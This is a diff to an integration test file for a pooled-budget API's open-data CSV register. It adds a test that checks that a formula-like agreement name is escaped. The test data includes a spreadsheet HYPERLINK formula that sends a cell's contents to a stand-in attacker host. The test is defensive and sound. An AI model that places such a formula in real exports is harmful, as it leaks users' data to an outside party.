@@ -3,6 +3,8 @@ actuals (403), payments and the settlement are the host's, and the API reads mon
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 from fastapi.testclient import TestClient
@@ -16,6 +18,7 @@ from tests.integration.pooled_budget.builders import (
     ICB,
     MARCUS,
     PRIYA,
+    agreed,
     agreement_json,
     auth,
 )
@@ -130,3 +133,11 @@ def test_the_register_entries_are_open_data_and_nothing_more(client: TestClient,
     assert "1332000.00" in row  # the total pooled (schemes and contingency)
     assert "72000.00" not in register.text  # monitoring figures are the partners' alone
     assert client.get(f"/pool/{pool}", follow_redirects=False).status_code == 303  # the rest needs a sign-in
+
+
+def test_the_register_shows_a_name_typed_like_a_formula_as_text(client: TestClient, database: Database) -> None:
+    attack = '=HYPERLINK("https://attacker.example/?d="&A2,"Open the pool")'
+    agreed(database, data=agreement_json(agreement=attack))
+    register = client.get("/open-data/pooled-budgets.csv")
+    [row] = list(csv.DictReader(io.StringIO(register.text)))
+    assert row["agreement"] == "'" + attack  # a spreadsheet shows it, never runs it
